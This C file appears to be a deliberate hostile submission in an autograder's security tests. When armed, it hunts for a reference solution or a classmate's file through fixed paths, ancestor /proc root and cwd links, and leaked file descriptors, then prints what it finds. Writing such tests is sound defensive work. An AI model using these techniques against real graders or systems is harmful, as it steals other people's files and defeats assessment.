/* An attack on the boundary, armed by tests/grade_hostile.sh: at run time it reads a
 * reference solution wherever the grader keeps one (the repository, a copy beside the class,
 * the installed share folder, beside its own program or its parent's; or a classmate's
 * file, which is one; through an ancestor's /proc/PID/root and cwd; through any descriptor
 * left open) and prints it, so that the report hands it to the student.
 * exercise: rnn_step
 * expect: wrong values
 * must not: show any line of the solution in a report
 */
/* @ARM@ */
#define _GNU_SOURCE
#include "gradlab_exercise.h"

#include <fcntl.h>
#include <libgen.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#ifdef GRADLAB_ATTACK_ARMED
/* Print the file at fd (then close it); 1 when it held anything. */
static int print_fd(int fd, const char *what)
{
	FILE *f = fdopen(fd, "r");
	if (!f) {
		close(fd);
		return 0;
	}
	char line[1024];
	int any = 0;
	while (fgets(line, sizeof line, f)) {
		if (!any++)
			printf("attack: read %s\n", what);
		fputs(line, stdout);
	}
	fclose(f);
	return any;
}

static int print_path(const char *path)
{
	int fd = open(path, O_RDONLY);
	return fd >= 0 && print_fd(fd, path);
}

static void show(void)
{
	static int done;
	if (done++)
		return;
	char dirs[16][4096];
	int n = 0;
	const char *fixed[] = { "@REPO_SOL@", "@WORK_SOL@", "@SHARE_SOL@",
				"/usr/local/share/gradlab/solutions", "/usr/share/gradlab/solutions",
				"@CLASSMATE_DIR@" /* a classmate's folder */ };
	for (size_t i = 0; i < sizeof fixed / sizeof fixed[0]; i++)
		snprintf(dirs[n++], sizeof dirs[0], "%s", fixed[i]);
	char link[64], exe[4096];
	pid_t pids[2] = { getpid(), getppid() };
	for (int p = 0; p < 2; p++) {
		snprintf(link, sizeof link, "/proc/%d/exe", (int)pids[p]);
		ssize_t k = readlink(link, exe, sizeof exe - 1);
		if (k > 0) {
			exe[k] = '\0';
			char *d = dirname(exe);
			snprintf(dirs[n++], sizeof dirs[0], "%.4000s/../share/gradlab/solutions", d);
			snprintf(dirs[n++], sizeof dirs[0], "%.4000s/../solutions", d);
		}
	}
	char path[8400];
	for (int i = 0; i < n; i++) {
		snprintf(path, sizeof path, "%.4000s/04_rnn_step.c", dirs[i]);
		if (print_path(path))
			goto done;
	}
	/* through an ancestor's root and working folder (/proc/PID/root, /proc/PID/cwd) */
	int pid = (int)getppid();
	for (int up = 0; up < 5 && pid > 0; up++) {
		for (int i = 0; i < 6; i++) {
			snprintf(path, sizeof path, "/proc/%d/root%.4000s/04_rnn_step.c", pid, dirs[i]);
			if (dirs[i][0] == '/' && print_path(path))
				goto done;
		}
		const char *rel[] = { "solutions", "../solutions", "../../solutions" };
		for (int i = 0; i < 3; i++) {
			snprintf(path, sizeof path, "/proc/%d/cwd/%s/04_rnn_step.c", pid, rel[i]);
			if (print_path(path))
				goto done;
		}
		snprintf(path, sizeof path, "/proc/%d/stat", pid);
		FILE *f = fopen(path, "r");
		int parent = 0;
		if (!f || fscanf(f, "%*d (%*[^)]) %*c %d", &parent) != 1)
			parent = 0;
		if (f)
			fclose(f);
		pid = parent;
	}
	/* through a descriptor the grader left open: a folder to look from, or the file itself */
	for (int fd = 3; fd < 1024; fd++) {
		struct stat st;
		if (fstat(fd, &st) != 0)
			continue;
		const char *rel[] = { "04_rnn_step.c", "solutions/04_rnn_step.c",
				      "../solutions/04_rnn_step.c", "../../solutions/04_rnn_step.c",
				      "control/04_rnn_step.c" };
		for (int i = 0; S_ISDIR(st.st_mode) && i < 5; i++) {
			int g = openat(fd, rel[i], O_RDONLY);
			snprintf(path, sizeof path, "descriptor %d, %s", fd, rel[i]);
			if (g >= 0 && print_fd(g, path))
				goto done;
		}
		if (S_ISREG(st.st_mode)) {
			snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
			int g = open(path, O_RDONLY);
			if (g >= 0 && print_fd(g, path))
				goto done;
		}
	}
done:
	fflush(stdout);
}
#endif

void rnn_step_forward(double *h_next, const double *x, const double *h_prev, const double *W_ih,
		      const double *W_hh, const double *b_ih, const double *b_hh, int B, int I,
		      int H)
{
#ifdef GRADLAB_ATTACK_ARMED
	show();
#endif
}

void rnn_step_backward(double *dx, double *dh_prev, double *dW_ih, double *dW_hh, double *db_ih,
		       double *db_hh, const double *dh_next, const double *x,
		       const double *h_prev, const double *h_next, const double *W_ih,
		       const double *W_hh, int B, int I, int H)
{
#ifdef GRADLAB_ATTACK_ARMED
	show();
#endif
}
